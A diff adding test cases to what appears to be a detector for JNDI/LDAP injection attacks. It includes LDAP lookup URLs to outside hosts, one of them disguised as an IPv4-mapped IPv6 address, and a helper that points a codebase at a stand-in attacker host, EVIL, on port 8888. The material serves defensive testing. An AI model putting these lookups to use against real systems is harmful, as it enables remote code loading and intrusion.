@@ -322,6 +322,21 @@ def old_answer(tale, twin):
     tale.refused()
 
 
+@row("the victim's own directory, asked for what it always is", ATTEMPT, CALLED)
+def own_directory(tale, twin):
+    for _ in range(2):
+        tale.search("dc=corp", server="10.0.0.60", port=389)
+    name = "dc=other" if twin else "dc=corp"
+    tale.lookup("ldap://10.0.0.60:389/" + name)
+    tale.search(name, server="10.0.0.60", port=389)
+
+
+@row("an address as IPv6 writes that of IPv4", ATTEMPT, CALLED)
+def mapped(tale, twin):
+    tale.lookup("ldap://[::ffff:203.0.113.%d]:1389/a" % (9 if twin else 10))
+    tale.refused()
+
+
 def delivered(tale, words):
     tale.lookup(NAME)
     tale.search(codebase="http://%s:8888/" % EVIL)
